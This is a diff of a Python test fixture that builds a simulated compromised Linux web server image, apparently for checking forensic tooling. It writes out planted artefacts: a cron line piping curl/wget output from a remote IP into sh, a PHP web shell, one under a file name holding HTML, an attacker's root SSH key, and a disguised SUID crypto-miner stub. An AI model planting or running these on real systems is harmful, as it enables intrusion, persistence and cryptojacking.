@@ -40,8 +40,14 @@ CRON_DOWNLOADER = b"""# system update check
 SHELL=/bin/sh
 */5 * * * * root (curl -fsSL http://203.0.113.66/k.sh || wget -q -O- http://203.0.113.66/k.sh) | sh >/dev/null 2>&1
 """
-MINER = (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
-         + b"xmrig/6.21.0\x00--donate-level=0\x00stratum+tcp://pool.example.net:3333\x00" + b"\x00" * 64)
+MINER = (
+    b"\x7fELF\x02\x01\x01\x00"
+    + b"\x00" * 8
+    + b"\x02\x00\x3e\x00"
+    + b"\x00" * 44
+    + b"xmrig/6.21.0\x00--donate-level=0\x00stratum+tcp://pool.example.net:3333\x00"
+    + b"\x00" * 64
+)
 LEGIT_KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx0ZWdpdGltYXRlLWFkbWluLWtleS1mb3ItdGVzdHM ops@bastion\n"
 ATTACKER_KEY = b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDattackerattackerattackerattacker root@kali\n"
 REVERSE_SHELL_HISTORY = b"""ls -la
@@ -98,9 +104,19 @@ def build_compromised_webserver_tree(directory: Path, incident_time: datetime) -
     configured = incident_time - timedelta(days=200, hours=5)
     at = incident_time
 
-    def put(path: str, content: bytes | None, mode: int, *, born: datetime, modified: datetime | None = None,
-            accessed: datetime | None = None, uid: int = ROOT_UID, gid: int | None = None,
-            planted: bool = False, why: str = "") -> None:
+    def put(
+        path: str,
+        content: bytes | None,
+        mode: int,
+        *,
+        born: datetime,
+        modified: datetime | None = None,
+        accessed: datetime | None = None,
+        uid: int = ROOT_UID,
+        gid: int | None = None,
+        planted: bool = False,
+        why: str = "",
+    ) -> None:
         modified = modified or born
         accessed = accessed or modified
         target = directory / path.lstrip("/")
@@ -111,56 +127,147 @@ def build_compromised_webserver_tree(directory: Path, incident_time: datetime) -
             target.write_bytes(content)
         target.chmod(stat.S_IMODE(mode))
         tree.entries[path] = TreeEntry(
-            path=path, mode=mode, uid=uid, gid=uid if gid is None else gid, atime=_epoch(accessed),
-            mtime=_epoch(modified), ctime=_epoch(modified), crtime=_epoch(born), planted=planted, why=why)
+            path=path,
+            mode=mode,
+            uid=uid,
+            gid=uid if gid is None else gid,
+            atime=_epoch(accessed),
+            mtime=_epoch(modified),
+            ctime=_epoch(modified),
+            crtime=_epoch(born),
+            planted=planted,
+            why=why,
+        )
 
     d, f = stat.S_IFDIR, stat.S_IFREG
-    for path in ("/etc", "/etc/cron.d", "/etc/cron.daily", "/etc/ssh", "/root", "/home", "/home/deploy",
-                 "/usr", "/usr/sbin", "/var", "/var/www", "/var/www/html", "/var/log", "/var/log/nginx"):
+    for path in (
+        "/etc",
+        "/etc/cron.d",
+        "/etc/cron.daily",
+        "/etc/ssh",
+        "/root",
+        "/home",
+        "/home/deploy",
+        "/usr",
+        "/usr/sbin",
+        "/var",
+        "/var/www",
+        "/var/www/html",
+        "/var/log",
+        "/var/log/nginx",
+    ):
         put(path, None, d | 0o755, born=installed)
     put("/tmp", None, d | 0o1777, born=installed, modified=at + timedelta(minutes=7))
     put("/root/.ssh", None, d | 0o700, born=configured)
     put("/home/deploy/.ssh", None, d | 0o700, born=configured, uid=1000)
-    put("/var/www/html/uploads", None, d | 0o755, born=configured, modified=at + timedelta(minutes=2),
-        uid=WWW_DATA_UID)
+    put("/var/www/html/uploads", None, d | 0o755, born=configured, modified=at + timedelta(minutes=2), uid=WWW_DATA_UID)
 
-    put("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
-        b"deploy:x:1000:1000::/home/deploy:/bin/bash\n", f | 0o644, born=installed, modified=configured,
-        accessed=at - timedelta(minutes=30))
+    put(
+        "/etc/passwd",
+        b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
+        b"deploy:x:1000:1000::/home/deploy:/bin/bash\n",
+        f | 0o644,
+        born=installed,
+        modified=configured,
+        accessed=at - timedelta(minutes=30),
+    )
     put("/etc/group", b"root:x:0:\nwww-data:x:33:\ndeploy:x:1000:\n", f | 0o644, born=installed, modified=configured)
     put("/etc/hostname", b"web-01\n", f | 0o644, born=installed)
-    put("/etc/crontab", b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
-        b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", f | 0o644, born=installed)
-    put("/etc/cron.d/e2scrub_all", b"30 3 * * 0 root test -e /run/systemd/system || "
-        b"SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n", f | 0o644, born=installed)
-    put("/etc/cron.daily/logrotate", b"#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", f | 0o755,
-        born=installed)
-    put("/etc/ssh/sshd_config", b"PermitRootLogin prohibit-password\nPasswordAuthentication no\n", f | 0o644,
-        born=installed, modified=configured)
+    put(
+        "/etc/crontab",
+        b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
+        b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
+        f | 0o644,
+        born=installed,
+    )
+    put(
+        "/etc/cron.d/e2scrub_all",
+        b"30 3 * * 0 root test -e /run/systemd/system || "
+        b"SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
+        f | 0o644,
+        born=installed,
+    )
+    put("/etc/cron.daily/logrotate", b"#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", f | 0o755, born=installed)
+    put(
+        "/etc/ssh/sshd_config",
+        b"PermitRootLogin prohibit-password\nPasswordAuthentication no\n",
+        f | 0o644,
+        born=installed,
+        modified=configured,
+    )
     put("/usr/sbin/nginx", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, f | 0o755, born=installed)
-    put("/var/www/html/index.html", b"<!doctype html><title>web-01</title><h1>It works</h1>\n", f | 0o644,
-        born=configured, accessed=at + timedelta(minutes=1))
+    put(
+        "/var/www/html/index.html",
+        b"<!doctype html><title>web-01</title><h1>It works</h1>\n",
+        f | 0o644,
+        born=configured,
+        accessed=at + timedelta(minutes=1),
+    )
     put("/home/deploy/.ssh/authorized_keys", LEGIT_KEY, f | 0o600, born=configured, uid=1000)
     put("/home/deploy/.bashrc", b"export PATH=$HOME/bin:$PATH\n", f | 0o644, born=configured, uid=1000)
-    put("/var/log/nginx/access.log",
-        b'198.51.100.23 - - [' + at.strftime("%d/%b/%Y:%H:%M:%S +0000").encode()
-        + b'] "POST /upload.php HTTP/1.1" 200 31 "-" "python-requests/2.31"\n', f | 0o640,
-        born=configured, modified=at + timedelta(minutes=9))
+    put(
+        "/var/log/nginx/access.log",
+        b"198.51.100.23 - - ["
+        + at.strftime("%d/%b/%Y:%H:%M:%S +0000").encode()
+        + b'] "POST /upload.php HTTP/1.1" 200 31 "-" "python-requests/2.31"\n',
+        f | 0o640,
+        born=configured,
+        modified=at + timedelta(minutes=9),
+    )
 
-    put("/var/www/html/uploads/.cache.php", WEB_SHELL, f | 0o644, born=at + timedelta(minutes=2),
-        uid=WWW_DATA_UID, planted=True, why="PHP web shell uploaded through the upload form")
-    put(f"/var/www/html/uploads/{HOSTILE_NAME}", b"<?php system($_GET['cmd']); ?>\n", f | 0o644,
-        born=at + timedelta(minutes=3), uid=WWW_DATA_UID, planted=True,
-        why="second web shell whose name is HTML, to prove reports escape file names")
-    put("/etc/cron.d/sysupdate", CRON_DOWNLOADER, f | 0o644, born=at + timedelta(minutes=5), planted=True,
-        why="cron entry downloading a script and piping it to sh")
-    put("/root/.ssh/authorized_keys", LEGIT_KEY + ATTACKER_KEY, f | 0o600, born=configured,
-        modified=at + timedelta(minutes=6), planted=True, why="attacker's SSH key appended for root")
+    put(
+        "/var/www/html/uploads/.cache.php",
+        WEB_SHELL,
+        f | 0o644,
+        born=at + timedelta(minutes=2),
+        uid=WWW_DATA_UID,
+        planted=True,
+        why="PHP web shell uploaded through the upload form",
+    )
+    put(
+        f"/var/www/html/uploads/{HOSTILE_NAME}",
+        b"<?php system($_GET['cmd']); ?>\n",
+        f | 0o644,
+        born=at + timedelta(minutes=3),
+        uid=WWW_DATA_UID,
+        planted=True,
+        why="second web shell whose name is HTML, to prove reports escape file names",
+    )
+    put(
+        "/etc/cron.d/sysupdate",
+        CRON_DOWNLOADER,
+        f | 0o644,
+        born=at + timedelta(minutes=5),
+        planted=True,
+        why="cron entry downloading a script and piping it to sh",
+    )
+    put(
+        "/root/.ssh/authorized_keys",
+        LEGIT_KEY + ATTACKER_KEY,
+        f | 0o600,
+        born=configured,
+        modified=at + timedelta(minutes=6),
+        planted=True,
+        why="attacker's SSH key appended for root",
+    )
     put("/tmp/.X11-unix", None, d | 0o1777, born=installed, modified=at + timedelta(minutes=7))
-    put("/tmp/.X11-unix/kworkerd", MINER, f | 0o4755, born=at + timedelta(minutes=7), planted=True,
-        why="SUID crypto-miner disguised as a kernel thread in a hidden directory")
-    put("/root/.bash_history", REVERSE_SHELL_HISTORY, f | 0o600, born=configured,
-        modified=at + timedelta(minutes=8), planted=True, why="reverse shell to the attacker's host")
+    put(
+        "/tmp/.X11-unix/kworkerd",
+        MINER,
+        f | 0o4755,
+        born=at + timedelta(minutes=7),
+        planted=True,
+        why="SUID crypto-miner disguised as a kernel thread in a hidden directory",
+    )
+    put(
+        "/root/.bash_history",
+        REVERSE_SHELL_HISTORY,
+        f | 0o600,
+        born=configured,
+        modified=at + timedelta(minutes=8),
+        planted=True,
+        why="reverse shell to the attacker's host",
+    )
 
     # Children first: writing a file changes its directory's times, which we set last.
     for path in sorted(tree.entries, key=lambda p: p.count("/"), reverse=True):
@@ -177,9 +284,16 @@ def _tree_entries(tree: PlantedTree | Path) -> tuple[Path, dict[str, TreeEntry]]
     for source in sorted(tree.rglob("*")):
         info = source.lstat()
         path = "/" + source.relative_to(tree).as_posix()
-        entries[path] = TreeEntry(path=path, mode=info.st_mode, uid=info.st_uid, gid=info.st_gid,
-                                  atime=int(info.st_atime), mtime=int(info.st_mtime), ctime=int(info.st_mtime),
-                                  crtime=int(info.st_mtime))
+        entries[path] = TreeEntry(
+            path=path,
+            mode=info.st_mode,
+            uid=info.st_uid,
+            gid=info.st_gid,
+            atime=int(info.st_atime),
+            mtime=int(info.st_mtime),
+            ctime=int(info.st_mtime),
+            crtime=int(info.st_mtime),
+        )
     return tree, entries
 
 
@@ -204,14 +318,21 @@ def build_ext4_image(tree: PlantedTree | Path, path: Path, size_mib: int = 16) -
         image.truncate(size_mib * 1024 * 1024)
     _run(["mkfs.ext4", "-q", "-F", "-E", "root_owner=0:0", "-L", "root", "-d", str(root), str(path)])
     oldest = min((e.crtime for e in entries.values()), default=0)
-    commands = [f'sif {_quote_debugfs(p)} {field} @{value}'
-                for p in ("/", "/lost+found") for field, value in
-                (("atime", oldest), ("mtime", oldest), ("ctime", oldest), ("crtime", oldest))]
+    commands = [
+        f"sif {_quote_debugfs(p)} {field} @{value}"
+        for p in ("/", "/lost+found")
+        for field, value in (("atime", oldest), ("mtime", oldest), ("ctime", oldest), ("crtime", oldest))
+    ]
     for entry in entries.values():
         target = _quote_debugfs(entry.path)
-        commands += [f"sif {target} uid {entry.uid}", f"sif {target} gid {entry.gid}",
-                     f"sif {target} atime @{entry.atime}", f"sif {target} mtime @{entry.mtime}",
-                     f"sif {target} ctime @{entry.ctime}", f"sif {target} crtime @{entry.crtime}"]
+        commands += [
+            f"sif {target} uid {entry.uid}",
+            f"sif {target} gid {entry.gid}",
+            f"sif {target} atime @{entry.atime}",
+            f"sif {target} mtime @{entry.mtime}",
+            f"sif {target} ctime @{entry.ctime}",
+            f"sif {target} crtime @{entry.crtime}",
+        ]
     script = path.with_name(path.name + ".debugfs")
     script.write_text("\n".join(commands) + "\n")
     try:
